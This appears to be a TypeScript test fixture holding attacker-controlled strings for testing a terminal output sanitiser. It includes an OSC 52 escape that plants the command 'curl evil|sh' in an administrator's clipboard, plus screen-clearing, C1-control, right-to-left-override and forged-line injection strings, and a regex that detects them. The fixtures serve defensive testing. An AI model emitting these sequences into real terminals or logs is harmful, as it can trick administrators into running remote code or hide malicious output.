// Text an attacker controls: a package version or stderr line from inside a container, a
// container name or tag, a snapshot description. Shared by the output-* tests.

/** OSC 52: writes "curl evil|sh" base64 into the clipboard of the admin's terminal emulator. */
export const OSC52 = '\u001b]52;c;Y3VybCBldmlsfHNo\u0007';
/** Clears the screen and moves the cursor home: hides everything printed before. */
export const CLEAR = '\u001b[2J\u001b[H';
/** An 8-bit CSI (U+009B) and DEL. */
export const C1 = '\u009b31m\u007f';
/** Right-to-left override: `1.0.0\u202e1.0.0` renders reversed after the mark. */
export const BIDI = '\u202egnp.exe\u202c';
/** A version carrying a forged report line. */
export const FORGED = '2.0\nCT 999 fake: nothing to do';

/** Any character a terminal would act on (everything the sanitiser escapes, line breaks apart). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what the tests look for
export const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
